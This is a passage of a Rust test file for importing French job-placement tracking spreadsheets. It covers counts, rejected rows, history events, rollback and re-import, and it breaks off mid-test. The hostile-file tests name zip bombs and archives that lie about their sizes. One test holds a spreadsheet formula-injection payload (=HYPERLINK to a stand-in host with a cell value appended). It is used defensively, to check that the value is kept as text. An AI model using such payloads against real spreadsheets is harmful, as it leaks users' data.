//! Import of legacy trackers, on fixtures written by real spreadsheet programs
//! (LibreOffice for xlsx/xls/ods, openpyxl, a Windows-1252 CSV — see
//! tests/fixtures/import/make_trackers.py): exact counts, stored values, rejected rows and
//! their reasons; hostile files; atomicity; idempotent re-import; remembered mappings.

mod common;

use std::path::{Path, PathBuf};

use chrono::{DateTime, Local, NaiveDate, TimeZone};
use common::{
    BOULANGER, PATISSIER, candidate,
    world::{World, claire},
};
use profilence_core::{
    Database, Error, candidates,
    candidates::{ConsentChannel, ConsentEventKind},
    choices::EventKind,
    clock,
    import::{
        self, AttestedDay, Cancel, ColumnChoice, ColumnSource, ConsentAttestation, ImportField, ImportIssue,
        ImportOptions, ImportReport, IssueSeverity, RowRef, StatusChoice,
    },
    promotions::{self, TimelineOf},
    stats::{self, Figure, FigureQuery, Period, StatsQuery},
};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/import").join(name)
}

/// 22 November 2026, 10:00: the fixtures' promotions are in the autumn before.
fn now() -> DateTime<Local> {
    Local.with_ymd_and_hms(2026, 11, 22, 10, 0, 0).unwrap()
}

fn world() -> (tempfile::TempDir, Database) {
    let w = World::signed(&claire("Agence de Rennes"));
    (w.dir, w.db)
}

fn run(db: &Database, name: &str, options: &ImportOptions) -> ImportReport {
    import::run(db, &fixture(name), options, now(), &Cancel::default(), &mut |_| {}).unwrap()
}

fn preview(db: &Database, name: &str, options: &ImportOptions) -> ImportReport {
    import::preview(db, &fixture(name), options, now(), &Cancel::default(), &mut |_| {}).unwrap()
}

/// Every row of every table: two equal dumps are two equal databases. The
/// journal is left out: it records each import, even one that changes nothing.
fn dump(db: &Database) -> String {
    db.read(|conn| {
        let tables: Vec<String> = conn.tables()?.into_iter().filter(|t| t != "journal").collect();
        let mut out = String::new();
        for table in tables {
            let mut statement = conn.prepare(&format!("SELECT * FROM \"{table}\""))?;
            let width = statement.column_count()?;
            let rows = statement.query_map([], |r| {
                (0..width)
                    .map(|i| r.get::<_, rusqlite::types::Value>(i).map(|v| format!("{v:?}")))
                    .collect::<rusqlite::Result<Vec<_>>>()
            })?;
            out.push_str(&format!("## {table}\n"));
            // Sorted: the server keeps no row order (an update moves a row).
            let mut lines = rows.map(|row| row.map(|cells| cells.join("|"))).collect::<rusqlite::Result<Vec<_>>>()?;
            lines.sort();
            for line in lines {
                out.push_str(&line);
                out.push('\n');
            }
        }
        Ok(out)
    })
    .unwrap()
}

fn scalar<T: rusqlite::types::FromSql>(db: &Database, sql: &str) -> T {
    db.read(|c| Ok(c.query_row(sql, [], |r| r.get(0))?)).unwrap()
}

fn issues(report: &ImportReport) -> Vec<(u32, String, String, IssueSeverity)> {
    report.issues.iter().map(|i| (i.row, i.column.clone(), i.value.clone(), i.severity)).collect()
}

/// The agency tracker, as LibreOffice saved it in each format (and the CSV it came from):
/// the same rows, the same values, the same rejections.
// The agency tracker (title lines, a repeated header, a total row, bad SIRETs and dates),
// as LibreOffice writes it in each format: the same result from each.

#[test]
fn the_agency_tracker_as_csv() {
    the_agency_tracker("suivi-agence.csv");
}

#[test]
fn the_agency_tracker_as_xlsx() {
    the_agency_tracker("suivi-agence.xlsx");
}

#[test]
fn the_agency_tracker_as_xls() {
    the_agency_tracker("suivi-agence.xls");
}

#[test]
fn the_agency_tracker_as_ods() {
    the_agency_tracker("suivi-agence.ods");
}

fn the_agency_tracker(name: &str) {
    let (_dir, db) = world();
    let report = run(&db, name, &ImportOptions::default());
    // Jade's sending (9 October) waited past the 30 days before the import: marked in its
    // transaction, not by the next screen.
    let marked = format!(
        "1 promotion(s) sans réponse 30 jours après le dernier contact : marquée(s) « {} ».",
        EventKind::NoAnswer.label()
    );
    assert!(report.warnings.contains(&marked), "{name}: {:?}", report.warnings);
    agency_rows_counted_and_rejected(name, &report, &db);
    agency_records_stored(name, &db);
    agency_promotions_as_history(name, &db);
}

/// What each row did: counts, skipped rows, the issues with their columns.
fn agency_rows_counted_and_rejected(name: &str, report: &ImportReport, db: &Database) {
    let c = report.counts;
    assert_eq!(
        (c.rows, c.imported, c.rejected, c.doubtful, c.skipped),
        (9, 5, 4, 1, 3),
        "{name}: rows, imported, rejected, doubtful, skipped"
    );
    assert_eq!(
        (
            c.candidates_created,
            c.candidates_unchanged,
            c.companies_created,
            c.companies_unchanged,
            c.promotions_created
        ),
        (4, 1, 3, 2, 5),
        "{name}"
    );
    let sheet = &report.sheets[0];
    assert_eq!(
        (sheet.header_row, sheet.data_rows, sheet.blank_rows, sheet.total_rows, sheet.repeated_headers),
        (4, 9, 1, 1, 1),
        "{name}: the header below two title lines and a blank one"
    );
    let expected = vec![
        (11, "M – SIRET".to_owned(), "73282932000075".to_owned(), IssueSeverity::Rejected),
        (12, "J – Date consentement".to_owned(), String::new(), IssueSeverity::Rejected),
        (13, "I – Métier visé".to_owned(), "Astronaute".to_owned(), IssueSeverity::Rejected),
        (14, "M – SIRET".to_owned(), report.issues[3].value.clone(), IssueSeverity::Rejected),
        (15, "Q – Retour employeur".to_owned(), "voir avec Paul".to_owned(), IssueSeverity::Doubtful),
    ];
    assert_eq!(issues(report), expected, "{name}");
    assert!(report.issues[0].reason.contains("Luhn"), "{name}");
    assert!(report.issues[1].reason.starts_with("Consentement à la promotion non indiqué"), "{name}");
    assert!(report.issues[2].reason.starts_with("Métier introuvable dans le ROME"), "{name}");
    assert!(report.issues[3].reason.starts_with("SIRET en notation scientifique"), "{name}: {:?}", report.issues[3]);
    assert!(report.issues[4].reason.starts_with("Statut non reconnu"), "{name}");
    assert!(report.committed);
    // A rejected row wrote nothing: row 11's new candidate (valid, but for a company
    // whose SIRET fails) is not in the pool, nor row 14's.
    let stored = |table: &str| scalar::<i64>(db, &format!("SELECT count(*) FROM {table}"));
    assert_eq!((stored("candidates"), stored("companies"), stored("promotions")), (4, 3, 5), "{name}");
}

/// Candidates, companies and contacts as the core stores them.
fn agency_records_stored(name: &str, db: &Database) {
    // Stored as the core stores them: phone with its zero back, ids, dates, communes.
    let lea: (String, String, String, String, String, String, String) = db
        .read(|c| {
            Ok(c.query_row(
                "SELECT phone, france_travail_id, birth_date, consent_date || ' ' || consent_channel || ' ' || \
                 consent_expiry, commune_code, email, counsellor FROM candidates WHERE last_name = 'MARTIN'",
                [],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?, r.get(4)?, r.get(5)?, r.get(6)?)),
            )?)
        })
        .unwrap();
    assert_eq!(
        lea,
        (
            "06 12 34 56 78".into(),
            "1234567A".into(),
            "1994-05-17".into(),
            "2026-09-01 written 2027-09-01".into(),
            "69383".into(),
            "lea.martin@courriel.example".into(),
            "Claire Morel".into()
        ),
        "{name}"
    );
    let chloe: (String, String, String) = db
        .read(|c| {
            Ok(c.query_row(
                "SELECT postcode, phone, consent_channel FROM candidates WHERE first_name = 'Chloé'",
                [],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )?)
        })
        .unwrap();
    assert_eq!(chloe, ("01000".into(), "06 98 76 54 32".into(), "online".into()), "{name}: 1000 → 01000, +33");
    let job: String = scalar(
        db,
        "SELECT label FROM candidate_target_jobs t JOIN candidates c ON c.id = t.candidate_id WHERE c.first_name = 'Chloé'",
    );
    assert_eq!(job, "Électricien / Électricienne du bâtiment", "{name}");
    // The pool's search finds the imported candidates (full-text entries written at the end).
    let query = candidates::CandidateQuery { search: "chloe electricienne".into(), ..Default::default() };
    let found = db.read(|c| candidates::list(c, &query, now().date_naive())).unwrap();
    let names: Vec<(&str, &str)> = found.items.iter().map(|s| (s.last_name.as_str(), s.first_name.as_str())).collect();
    assert_eq!(names, [("DUBOIS", "Chloé")], "{name}");
    let sirets: String = scalar(
        db,
        "SELECT group_concat(siret || ' ' || name || ' ' || coalesce(commune_code, '-'), ', ') FROM (SELECT * FROM companies ORDER BY siret) sub",
    );
    assert_eq!(
        sirets,
        "06840388000013 Pains & Co 76351, 34167211100018 Fournil du Rhône 69266, 73282932000074 Boulangerie Kerbrat 35238",
        "{name}: the lost zero restored, the scientific notation read in full"
    );
    let contact: String = scalar(db, "SELECT name FROM company_contacts");
    assert_eq!(contact, "Sophie Lambert", "{name}");
}

/// The promotions as history, with the dates the dashboards count.
fn agency_promotions_as_history(name: &str, db: &Database) {
    // The promotions as history: the status each free text means, and the dates the
    // dashboards count, as the promotion's log gives them. Only Léa's hire has a date in
    // the file (« Date retour »): the other statuses are answers, an interview, a "no
    // answer" whose day the file does not give — undated, never the sending's day.
    let promotions: String = scalar(
        db,
        "SELECT group_concat(line, ' | ') FROM (SELECT c.first_name || '→' || co.name || ' ' || p.status || \
         coalesce(' ' || p.reason, '') || ' sent ' || substr(p.sent_at, 1, 10) || \
         coalesce(' answered ' || substr(p.answered_at, 1, 10), '') || \
         CASE p.answer_undated WHEN 1 THEN ' answered undated' ELSE '' END || \
         coalesce(' interview ' || substr(p.interview_planned_at, 1, 10), '') || \
         CASE p.interview_undated WHEN 1 THEN ' interview undated' ELSE '' END || \
         ' status ' || CASE p.status_undated WHEN 1 THEN 'undated' ELSE substr(p.status_at, 1, 10) END || \
         ' last contact ' || substr(p.last_contact_at, 1, 10) || \
         ' reminders ' || p.reminders AS line FROM promotions p \
         JOIN candidates c ON c.id = p.candidate_id JOIN companies co ON co.id = p.company_id ORDER BY p.sent_at) sub",
    );
    assert_eq!(
        promotions,
        "Léa→Boulangerie Kerbrat hired sent 2026-09-12 answered 2026-09-20 status 2026-09-20 \
         last contact 2026-09-12 reminders 0 | \
         Léa→Fournil du Rhône refused other sent 2026-09-15 answered undated status undated \
         last contact 2026-09-15 reminders 0 | \
         Hugo→Pains & Co interview_planned sent 2026-09-18 answered undated interview undated \
         status undated last contact 2026-09-18 reminders 0 | \
         Chloé→Boulangerie Kerbrat no_answer sent 2026-10-02 status undated last contact 2026-10-02 reminders 0 | \
         Jade→Pains & Co no_answer sent 2026-10-09 status 2026-11-08 last contact 2026-10-09 reminders 0",
        "{name}"
    );
    // The log: each event the rows state, undated where the file gives no date; the
    // undated ones stand at the sending's moment, only for the log's order.
    let events: String = scalar(
        db,
        "SELECT group_concat(kind || CASE undated WHEN 1 THEN ' undated' ELSE ' ' || substr(at, 1, 10) END, ', ') \
         FROM (SELECT e.kind, e.undated, e.at FROM promotion_events e JOIN promotions p ON p.id = e.promotion_id \
         WHERE e.kind NOT IN ('created', 'sent') ORDER BY p.sent_at, e.id) sub",
    );
    assert_eq!(
        events,
        "hired 2026-09-20, refused undated, interview_planned undated, no_answer undated, note undated, \
         no_answer 2026-11-08",
        "{name}"
    );
    let misplaced: i64 = scalar(
        db,
        "SELECT count(*) FROM promotion_events e JOIN promotions p ON p.id = e.promotion_id \
         WHERE e.undated = 1 AND e.at <> p.sent_at",
    );
    assert_eq!(misplaced, 0, "{name}: an undated event stands at the sending");
    let hire: (String, String, String) = db
        .read(|c| {
            Ok(c.query_row(
                "SELECT contract_type, substr(at, 1, 10), comment FROM promotion_events WHERE kind = 'hired'",
                [],
                |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
            )?)
        })
        .unwrap();
    assert_eq!(
        hire,
        ("cdd".into(), "2026-09-20".into(), "Tableau de suivi : « CDD 6 mois » — Démarre le 1er octobre".into()),
        "{name}: the contract from the text, the answer's date from its column"
    );
    let interview: String = scalar(db, "SELECT interview_at FROM promotion_events WHERE kind = 'interview_planned'");
    assert_eq!(interview, "2026-10-03", "{name}: « entretien le 3/10 », a real date, kept");
    let note: String = scalar(db, "SELECT comment FROM promotion_events WHERE kind = 'note'");
    assert_eq!(note, "Tableau de suivi : « voir avec Paul »", "{name}");
    let authors: String = scalar(
        db,
        "SELECT group_concat(author, ' | ') FROM (SELECT DISTINCT author FROM promotion_events ORDER BY 1) sub",
    );
    assert_eq!(authors, format!("Claire Morel | {}", promotions::AUTOMATIC_AUTHOR));
}

#[test]
fn the_preview_shows_rows_as_stored_and_writes_nothing() {
    let (_dir, db) = world();
    let before = dump(&db);
    let report = preview(&db, "suivi-agence.xlsx", &ImportOptions::default());
    assert_eq!(dump(&db), before, "a preview writes nothing");
    assert!(!report.committed);
    assert_eq!(report.counts.promotions_created, 5);
    let first = &report.rows[0];
    assert_eq!(first.row, 5);
    let value = |field: ImportField| first.values.iter().find(|v| v.field == field).map(|v| v.value.as_str());
    assert_eq!(value(ImportField::Phone), Some("06 12 34 56 78"));
    assert_eq!(value(ImportField::TargetJob), Some("Boulanger / Boulangère"));
    assert_eq!(value(ImportField::Status), Some("Embauche, CDD"));
    assert_eq!(first.outcome, "Candidat créé · Entreprise créée · Promotion créée (Embauche, CDD)");
    assert!(report.rows.iter().any(|r| r.rejected && r.row == 13 && r.outcome.contains("Métier introuvable")));
    // Every column recognised from its French header, the statuses read.
    let fields: Vec<Option<ImportField>> = report.columns.iter().map(|c| c.field).collect();
    assert!(fields.iter().all(Option::is_some), "{:?}", report.columns);
    assert_eq!(report.columns[2].field, Some(ImportField::FranceTravailId), "« N° DE »");
    assert!(report.columns.iter().all(|c| c.source == ColumnSource::Recognised));
    let unknown: Vec<&str> =
        report.statuses.iter().filter(|s| s.source == ColumnSource::Unknown).map(|s| s.text.as_str()).collect();
    assert_eq!(unknown, ["voir avec Paul"], "the statuses to map first");
    let cdd = report.statuses.iter().find(|s| s.text == "CDD 6 mois").unwrap();
    assert_eq!(cdd.event, Some(EventKind::Hired));
    assert!(report.warnings.iter().any(|w| w.contains("historique")), "{:?}", report.warnings);
    assert!(
        report.warnings.iter().any(|w| w.contains("« E-mail » est retenu")),
        "no channel column: {:?}",
        report.warnings
    );
}

/// Merged cells (openpyxl, then LibreOffice's ods and xls of the same workbook): group
/// headers over a two-row header, a company merged down over its promotions; a formula
/// error; two sheets of the same table and a sheet of notes; a cell at XFD1048576 (xlsx
/// only). The candidates are already in the pool (matched by name).
#[test]
fn merged_cells_several_sheets_formula_errors_and_a_huge_declared_range() {
    for name in ["fusions.xlsx", "fusions.ods", "fusions.xls"] {
        merged_cells_in(name);
    }
}

fn merged_cells_in(name: &str) {
    let (_dir, db) = world();
    let today = now().date_naive();
    db.write(|tx| {
        for (last, first, job) in [
            ("Roux", "Camille", BOULANGER),
            ("Morel", "Yanis", BOULANGER),
            ("Garnier", "Zoé", PATISSIER),
            ("Lambert", "Noah", BOULANGER),
        ] {
            let mut input = candidate(last, first, &[job]);
            input.email = String::new();
            input.birth_date = String::new();
            candidates::create(tx, &input, today, false)?;
        }
        Ok(())
    })
    .unwrap();
    let report = run(&db, name, &ImportOptions::default());
    let headers: Vec<(&str, Option<ImportField>)> =
        report.columns.iter().map(|c| (c.header.as_str(), c.field)).collect();
    assert_eq!(
        headers,
        vec![
            ("Candidat – Nom", Some(ImportField::LastName)),
            ("Candidat – Prénom", Some(ImportField::FirstName)),
            ("Candidat – Métier", Some(ImportField::TargetJob)),
            ("Entreprise – Nom", Some(ImportField::CompanyName)),
            ("Entreprise – SIRET", Some(ImportField::Siret)),
            ("Entreprise – Ville", Some(ImportField::CompanyCommune)),
            ("Suivi – Date", Some(ImportField::PromotionDate)),
            ("Suivi – Suite donnée", Some(ImportField::Status)),
        ]
    );
    assert_eq!(report.columns[0].places, ["Suivi 2026 : A", "Archives 2025 : A"]);
    let c = report.counts;
    assert_eq!((c.rows, c.imported, c.rejected, c.doubtful), (5, 4, 1, 1));
    assert_eq!((c.candidates_created, c.candidates_unchanged, c.companies_created, c.promotions_created), (0, 4, 3, 4));
    assert_eq!(
        issues(&report),
        vec![
            (5, "G – Suivi – Date".into(), "#DIV/0!".into(), IssueSeverity::Rejected),
            (3, "G – Suivi – Date".into(), "03/11/2025".into(), IssueSeverity::Doubtful),
        ]
    );
    assert!(
        report.issues[0].reason.starts_with("La cellule contient une formule en erreur (#DIV/0!)"),
        "{:?}",
        report.issues[0]
    );
    assert!(
        report.issues[1].reason.starts_with("Promotion hors de la période de consentement"),
        "{:?}",
        report.issues[1]
    );
    assert_eq!(
        report.sheets.iter().map(|s| (s.name.as_str(), s.header_row, s.data_rows)).collect::<Vec<_>>(),
        vec![("Suivi 2026", 2, 4), ("Archives 2025", 2, 1), ("Notes", 0, 0)]
    );
    // Only the xlsx has the cell at XFD1048576 (see immense.ods for an ods that has it).
    assert_eq!(
        report.warnings.iter().any(|w| w.contains("1\u{202f}048\u{202f}576 lignes × 16\u{202f}384 colonnes")),
        name == "fusions.xlsx",
        "{name}: {:?}",
        report.warnings
    );
    assert!(report.warnings.iter().any(|w| w.contains("« Notes » ne contient pas de tableau")));
    // Yanis's row has no company cells of its own: the merged Kerbrat cells fill it.
    let promotions: String = scalar(
        &db,
        "SELECT group_concat(line, ' | ') FROM (SELECT c.first_name || '→' || co.name || ' ' || p.status AS line \
         FROM promotions p JOIN candidates c ON c.id = p.candidate_id JOIN companies co ON co.id = p.company_id \
         ORDER BY p.sent_at) sub",
    );
    assert_eq!(
        promotions,
        "Camille→Fournil du Rhône kept_on_file | Camille→Boulangerie Kerbrat interested | \
         Yanis→Boulangerie Kerbrat no_answer | Noah→Pains & Co hired"
    );
    let hired_contract: Option<String> = scalar(&db, "SELECT contract_type FROM promotion_events WHERE kind = 'hired'");
    assert_eq!(hired_contract, None, "« embauché(e) » names no contract: none is invented");
}

/// A Windows-1252 CSV with commas, full names in one cell, a ROME code for the job, and no
/// column saying how consents were collected: the counsellor says it for the file.
#[test]
fn a_windows_1252_csv_with_full_names_and_the_consent_mode_chosen_for_the_file() {
    let (_dir, db) = world();
    let first = preview(&db, "suivi-1252.csv", &ImportOptions::default());
    assert!(first.needs_consent_channel);
    assert_eq!(first.counts.rejected, 2);
    assert!(first.issues[0].reason.starts_with("Mode de recueil du consentement non indiqué"));

    let options = ImportOptions { consent_channel: Some(ConsentChannel::Written), ..ImportOptions::default() };
    let report = run(&db, "suivi-1252.csv", &options);
    assert!(!report.needs_consent_channel);
    assert_eq!((report.counts.imported, report.counts.rejected, report.counts.doubtful), (2, 0, 1));
    let people: String = scalar(
        &db,
        "SELECT group_concat(last_name || '/' || first_name || '/' || france_travail_id || '/' || consent_channel, ', ') \
         FROM (SELECT * FROM candidates ORDER BY id) sub",
    );
    assert_eq!(people, "LE GALL/Maëlys/3456789C/written, Carré/Éloïse/4567890D/written");
    assert_eq!(
        issues(&report),
        vec![
            (3, "A – Nom prénom".into(), "Éloïse Carré".into(), IssueSeverity::Doubtful),
            (3, "D – Métier".into(), "D1102".into(), IssueSeverity::Doubtful),
        ]
    );
    assert!(report.issues[0].reason.contains("séparés au mieux"));
    assert_eq!(report.issues[1].reason, "Métier rapproché de « Boulanger / Boulangère » du ROME.");
    let jobs: String = scalar(
        &db,
        "SELECT group_concat(rome_code, ',') FROM (SELECT rome_code FROM candidate_target_jobs ORDER BY candidate_id) sub",
    );
    assert_eq!(jobs, "D1104,D1102", "« Pâtissier / Pâtissière » by its label, « D1102 » by its code");
    let answers: String = scalar(
        &db,
        "SELECT group_concat(kind || ' ' || coalesce(reason, interview_at), ', ') FROM (SELECT * FROM promotion_events \
         WHERE kind IN ('interview_planned', 'refused') ORDER BY id) sub",
    );
    assert_eq!(answers, "interview_planned 2026-10-14, refused no_vacancy");
}

/// The message a file gets, the database unchanged by both the preview and the import.
fn import_error(path: &Path) -> String {
    let (_dir, db) = world();
    let before = dump(&db);
    let options = ImportOptions::default();
    let message = match import::preview(&db, path, &options, now(), &Cancel::default(), &mut |_| {}) {
        Err(Error::Import(message)) => message,
        other => panic!("expected an import error for {}, got {other:?}", path.display()),
    };
    let again = import::run(&db, path, &options, now(), &Cancel::default(), &mut |_| {});
    assert!(matches!(&again, Err(Error::Import(m)) if *m == message), "{}: {again:?}", path.display());
    assert_eq!(dump(&db), before, "{}: the database is unchanged", path.display());
    message
}

const REPAIR: &str = "son contenu ne peut pas être lu comme un classeur. Ouvrez-le dans Excel ou LibreOffice pour le \
                      réparer, enregistrez-le, puis importez la copie.";

#[test]
fn hostile_files_get_a_clear_message_and_change_nothing() {
    for name in ["protege.xlsx", "protege.xls"] {
        assert_eq!(
            import_error(&fixture(name)),
            format!(
                "Le fichier « {name} » est protégé par un mot de passe : ouvrez-le dans Excel ou LibreOffice, \
                 enregistrez une copie sans mot de passe, puis importez cette copie."
            )
        );
    }
    // Truncated, or lying about its parts (declaring 1 KB for 300 MB of shared strings or
    // 20 MB of content): the reader stops at the declared size, memory never follows the lie.
    for name in ["endommage.xlsx", "menteur.xlsx", "menteur.ods"] {
        assert_eq!(import_error(&fixture(name)), format!("Le fichier « {name} » est endommagé : {REPAIR}"));
    }
    // Expanding to 1,025 MiB for real, or declaring 4 GB (300 MB of shared strings, which
    // are loaded whole): refused from the archive's table of contents, before anything is
    // inflated.
    for (name, bound) in [("bombe.xlsx", 1024), ("bombe.ods", 1024), ("textes.xlsx", 256)] {
        assert_eq!(
            import_error(&fixture(name)),
            format!(
                "Le fichier « {name} » se décompresse en plus de {bound} Mo : ce n'est pas un tableau de suivi \
                 ordinaire (archive anormale), il n'est pas importé."
            )
        );
    }
    // A cell at XFD1048576: an xlsx is streamed (see fusions.xlsx), an ods is read whole.
    assert_eq!(
        import_error(&fixture("immense.ods")),
        "Une feuille du fichier « immense.ods » est trop grande pour être lue (plus de 200\u{202f}000 lignes ou des \
         cellules jusqu'au bout de la feuille). Supprimez les lignes et colonnes inutiles, puis réessayez."
    );
    let dir = tempfile::tempdir().unwrap();
    let fake = dir.path().join("tableau.xlsx");
    std::fs::write(&fake, "Nom;Prénom\nMartin;Léa\n").unwrap();
    assert_eq!(import_error(&fake), format!("Le fichier « tableau.xlsx » est endommagé : {REPAIR}"));
    let pdf = dir.path().join("suivi.pdf");
    std::fs::write(&pdf, "%PDF-1.4").unwrap();
    assert_eq!(
        import_error(&pdf),
        "Format .pdf non pris en charge (« suivi.pdf ») : importez un fichier .xlsx, .xlsm, .xls, .ods ou .csv."
    );
    let absent = dir.path().join("absent.xlsx");
    assert_eq!(import_error(&absent), format!("Fichier introuvable : {}.", absent.display()));
    // 100 MB: refused from its size alone, before anything is read.
    let big = dir.path().join("gros.csv");
    let file = std::fs::File::create(&big).unwrap();
    file.set_len(100 * 1024 * 1024).unwrap();
    assert_eq!(
        import_error(&big),
        "Le fichier « gros.csv » pèse 100 Mo : Profilence importe des tableaux de 64 Mo au plus. Enregistrez-le en \
         plusieurs fichiers (par exemple une année ou une feuille par fichier)."
    );
}

#[test]
fn an_import_that_fails_half_way_leaves_the_database_exactly_as_before() {
    // Cancelled while storing rows.
    let (_dir, db) = world();
    let before = dump(&db);
    let cancel = Cancel::default();
    let stop = cancel.clone();
    let result = import::run(&db, &fixture("suivi-agence.xlsx"), &ImportOptions::default(), now(), &cancel, &mut |p| {
        if p.counts.candidates_created >= 1 {
            stop.cancel();
        }
    });
    assert!(matches!(result, Err(Error::Cancelled)), "{result:?}");
    assert_eq!(dump(&db), before);

    // A failure of the database itself on the third company: everything rolls back,
    // the rows already stored included.
    let trigger = if common::store::on_server() {
        "CREATE FUNCTION fail_third_company() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN \
         IF (SELECT count(*) FROM companies) >= 2 THEN RAISE EXCEPTION 'disk full'; END IF; RETURN NEW; END $$; \
         CREATE TRIGGER fail_third_company BEFORE INSERT ON companies FOR EACH ROW EXECUTE FUNCTION fail_third_company();"
    } else {
        "CREATE TRIGGER fail_third_company BEFORE INSERT ON companies WHEN (SELECT count(*) FROM companies) >= 2 \
         BEGIN SELECT RAISE(ABORT, 'disk full'); END;"
    };
    db.write(|tx| Ok(tx.execute_batch(trigger)?)).unwrap();
    let before = dump(&db);
    let result = import::run(
        &db,
        &fixture("suivi-agence.xlsx"),
        &ImportOptions::default(),
        now(),
        &Cancel::default(),
        &mut |_| {},
    );
    assert!(matches!(result, Err(Error::Database(_) | Error::Server { .. })), "{result:?}");
    assert_eq!(dump(&db), before);
}

#[test]
fn re_importing_is_idempotent_and_a_later_version_brings_its_changes() {
    let (_dir, db) = world();
    run(&db, "suivi-agence.xlsx", &ImportOptions::default());
    let first = dump(&db);
    let counts = |db: &Database| -> (i64, i64, i64, i64) {
        (
            scalar(db, "SELECT count(*) FROM candidates"),
            scalar(db, "SELECT count(*) FROM companies"),
            scalar(db, "SELECT count(*) FROM promotions"),
            scalar(db, "SELECT count(*) FROM promotion_events"),
        )
    };
    let stored = counts(&db);
    // Jade's sending waited past the 30 days: its "no answer" came with the import.
    assert_eq!(stored, (4, 3, 5, 16));

    let again = run(&db, "suivi-agence.xlsx", &ImportOptions::default());
    let c = again.counts;
    assert_eq!((c.candidates_created, c.candidates_updated, c.candidates_unchanged), (0, 0, 5));
    assert_eq!(
        (c.companies_created, c.companies_updated, c.promotions_created, c.promotions_updated, c.promotions_unchanged),
        (0, 0, 0, 0, 5)
    );
    assert_eq!(counts(&db), stored);
    // Only the remembered mapping's row may differ; no record changed.
    let records = |d: &str| d.lines().filter(|l| !l.contains("import.mapping:")).collect::<Vec<_>>().join("\n");
    assert_eq!(records(&dump(&db)), records(&first), "a re-import changes no record");

    // A month later: Hugo hired after his interview, Léa's new phone, Chloé promoted again.
    let later = run(&db, "suivi-agence-v2.xlsx", &ImportOptions::default());
    let c = later.counts;
    assert_eq!((c.candidates_created, c.candidates_updated), (0, 1), "{:?}", later.issues);
    assert_eq!((c.promotions_created, c.promotions_updated, c.promotions_unchanged), (1, 1, 4));
    // Each import marked, in its transaction, what had waited 30 days after its last
    // contact by then: Jade's sending, then Chloé's second one (20 October).
    assert_eq!(counts(&db), (4, 3, 6, 21));
    let automatic: String = scalar(
        &db,
        &format!(
            "SELECT group_concat(line, ', ') FROM (SELECT c.first_name || ' ' || substr(p.sent_at, 1, 10) || ' → ' || \
             substr(e.at, 1, 10) AS line FROM promotion_events e JOIN promotions p ON p.id = e.promotion_id \
             JOIN candidates c ON c.id = p.candidate_id WHERE e.author = '{}' ORDER BY e.id) sub",
            promotions::AUTOMATIC_AUTHOR
        ),
    );
    assert_eq!(automatic, "Jade 2026-10-09 → 2026-11-08, Chloé 2026-10-20 → 2026-11-19");
    let hugo: String = scalar(
        &db,
        "SELECT p.status || ' ' || e.contract_type FROM promotions p JOIN promotion_events e ON e.promotion_id = p.id AND e.kind = 'hired' JOIN candidates c ON c.id = p.candidate_id WHERE c.first_name = 'Hugo'",
    );
    assert_eq!(hugo, "hired cdi");
    let phone: String = scalar(&db, "SELECT phone FROM candidates WHERE first_name = 'Léa'");
    assert_eq!(phone, "07 88 12 34 56");
}

#[test]
fn corrected_mappings_and_statuses_are_remembered_for_the_same_headers() {
    let (_dir, db) = world();
    let options = ImportOptions {
        columns: vec![ColumnChoice { header: "Commentaire".into(), field: None }],
        statuses: vec![StatusChoice { text: "voir avec Paul".into(), event: Some(EventKind::Interested) }],
        ..ImportOptions::default()
    };
    let chosen = preview(&db, "suivi-agence.xlsx", &options);
    let comment = chosen.columns.iter().find(|c| c.header == "Commentaire").unwrap();
    assert_eq!((comment.field, comment.source), (None, ColumnSource::Chosen));
    assert_eq!(chosen.counts.doubtful, 0, "the status is now understood");
    run(&db, "suivi-agence.xlsx", &options);
    let hire_comment: String = scalar(&db, "SELECT comment FROM promotion_events WHERE kind = 'hired'");
    assert_eq!(hire_comment, "Tableau de suivi : « CDD 6 mois »", "the comment column was left out");

    // The next file with the same headers (in another order of sheets, a later version).
    let next = preview(&db, "suivi-agence-v2.xlsx", &ImportOptions::default());
    let comment = next.columns.iter().find(|c| c.header == "Commentaire").unwrap();
    assert_eq!((comment.field, comment.source), (None, ColumnSource::Remembered));
    let paul = next.statuses.iter().find(|s| s.text == "voir avec Paul").unwrap();
    assert_eq!((paul.event, paul.source), (Some(EventKind::Interested), ColumnSource::Remembered));
}

#[test]
fn the_report_is_saved_as_xlsx_or_csv() {
    let (dir, db) = world();
    let mut report = preview(&db, "suivi-agence.xlsx", &ImportOptions::default());
    // A tracker's cell that a spreadsheet would run: kept as text in the report.
    let formula = "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Cliquez\")";
    report.issues[1].value = formula.into();
    let xlsx = dir.path().join("rapport.xlsx");
    import::report::save(&report, &xlsx).unwrap();
    use calamine::{Data, Reader, Xlsx, open_workbook};
    let mut book: Xlsx<_> = open_workbook(&xlsx).unwrap();
    assert_eq!(book.sheet_names(), ["Lignes à reprendre", "Résumé"]);
    let range = book.worksheet_range("Lignes à reprendre").unwrap();
    // The warning first, then the headers, then the rows.
    assert_eq!(range.height(), 2 + report.issues.len());
    assert!(range.get((0, 0)).unwrap().to_string().starts_with("Données personnelles : ce rapport contient"));
    assert_eq!(range.get((1, 0)).map(ToString::to_string).as_deref(), Some("Feuille"));
    assert_eq!(range.get((2, 2)).map(ToString::to_string).as_deref(), Some("M – SIRET"));
    assert_eq!(range.get((2, 5)).map(ToString::to_string).as_deref(), Some("Ligne rejetée"));
    assert_eq!(range.get((3, 3)), Some(&Data::String(formula.into())), "a string, as it was");
    assert!(book.worksheet_formula("Lignes à reprendre").unwrap().used_cells().next().is_none(), "no formula");
    let summary = book.worksheet_range("Résumé").unwrap();
    assert!(summary.get((0, 0)).unwrap().to_string().starts_with("Données personnelles"));
    // …and flagged as text, so that editing it does not make it a formula either.
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).unwrap()).unwrap();
    let mut styles = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut styles).unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");

    let csv = dir.path().join("rapport.csv");
    import::report::save(&report, &csv).unwrap();
    let text = std::fs::read_to_string(&csv).unwrap();
    assert!(text.starts_with("\u{feff}Données personnelles : ce rapport contient"), "{text}");
    assert!(text.lines().nth(1).unwrap().starts_with("Feuille;Ligne;Colonne;Valeur;Problème;Suite"));
